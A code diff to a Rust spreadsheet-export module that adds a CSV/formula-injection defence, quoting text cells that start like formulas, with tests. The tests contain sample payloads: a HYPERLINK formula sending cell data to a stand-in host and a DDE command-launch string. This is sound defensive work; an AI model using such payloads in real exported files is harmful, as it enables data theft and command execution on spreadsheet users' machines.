@@ -1,11 +1,27 @@
 //! A sheet of typed cells (text, money in fen, counts, ratios, decimals) and its two renderings: CSV in
 //! UTF-8 with a byte-order mark (so that Excel in zh-CN opens it correctly) and XLSX sheets with number
-//! formats for money and percentages and column widths.
+//! formats for money and percentages and column widths. Text cells that a spreadsheet would read as a
+//! formula are defused in both ([`defused`]); numbers are typed cells and stay numbers.
 
 use super::ExportError;
 use super::money::yuan;
 use rust_xlsxwriter::{Format, Workbook, Worksheet};
 use serde::Serialize;
+use std::borrow::Cow;
+
+/// The first characters that make a spreadsheet read a cell as a formula (or as the start of one).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `text` safe to put in a spreadsheet cell: prefixed with a single quote when it starts like a
+/// formula (OWASP's CSV-injection advice), so `=HYPERLINK(…)` in an imported item name is shown, not
+/// run. Only text cells pass here: amounts and counts are numbers and are written as numbers.
+pub fn defused(text: &str) -> Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
 
 /// One cell.
 #[derive(Debug, Clone, PartialEq, Serialize)]
@@ -41,7 +57,7 @@ impl Value {
     /// The cell as CSV text.
     pub fn csv_text(&self) -> String {
         match self {
-            Value::Text(s) => s.clone(),
+            Value::Text(s) => defused(s).into_owned(),
             Value::Fen(fen) => yuan(*fen),
             Value::Count(n) => n.to_string(),
             Value::Ratio(r) => format!("{:.1}%", r * 100.0),
@@ -153,10 +169,10 @@ fn write_cell(
 ) -> Result<(), ExportError> {
     match value {
         Value::Text(s) if total => {
-            sheet.write_string_with_format(row, col, s, &formats.total_text)?;
+            sheet.write_string_with_format(row, col, defused(s), &formats.total_text)?;
         }
         Value::Text(s) => {
-            sheet.write_string(row, col, s)?;
+            sheet.write_string(row, col, defused(s))?;
         }
         // Shown in yuan: fen / 100 is the nearest double to the exact amount, and Excel's two
         // decimals show it exactly. Sums are made in fen before this point.
@@ -261,6 +277,76 @@ mod tests {
             "名称 name,金额 amount,比例 rate\n\"甲, \"\"乙\"\"\",123.45,50.0%\n丙,-0.05,\n\
              合计 total,123.40,\n"
         );
+    }
+
+    fn injected() -> Table {
+        let cells = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1",
+            "\r=1",
+            "透析 =1",
+        ];
+        Table {
+            sheet: "明细 Detail".into(),
+            title: vec![],
+            columns: vec![
+                Column::new("名称 name", 20.0),
+                Column::new("金额 amount", 12.0),
+            ],
+            rows: cells
+                .iter()
+                .map(|c| vec![Value::text(c), Value::Fen(-500)])
+                .collect(),
+            total: None,
+        }
+    }
+
+    #[test]
+    fn formula_like_text_is_defused_in_csv_and_numbers_stay_numbers() {
+        let bytes = injected().to_csv().expect("csv");
+        let mut reader = csv::Reader::from_reader(&bytes[3..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+        let firsts: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
+        assert_eq!(
+            firsts,
+            [
+                "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
+                "'+1+cmd|' /C calc'!A0",
+                "'-2+3",
+                "'@SUM(A1:A2)",
+                "'\t=1",
+                "'\r=1",
+                "透析 =1",
+            ]
+        );
+        assert!(rows.iter().all(|r| &r[1] == "-5.00"), "amounts are numbers");
+    }
+
+    #[test]
+    fn formula_like_text_is_defused_in_xlsx_and_numbers_stay_numbers() {
+        use calamine::{Data, Reader};
+        let bytes = to_xlsx(&[injected()]).expect("xlsx");
+        let mut workbook =
+            calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("a valid workbook");
+        let range = workbook.worksheet_range("明细 Detail").expect("sheet");
+        assert_eq!(
+            range.get_value((1, 0)),
+            Some(&Data::String(
+                "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")".into()
+            ))
+        );
+        assert_eq!(
+            range.get_value((4, 0)),
+            Some(&Data::String("'@SUM(A1:A2)".into()))
+        );
+        assert_eq!(
+            range.get_value((7, 0)),
+            Some(&Data::String("透析 =1".into()))
+        );
+        assert_eq!(range.get_value((1, 1)), Some(&Data::Float(-5.0)));
     }
 
     #[test]
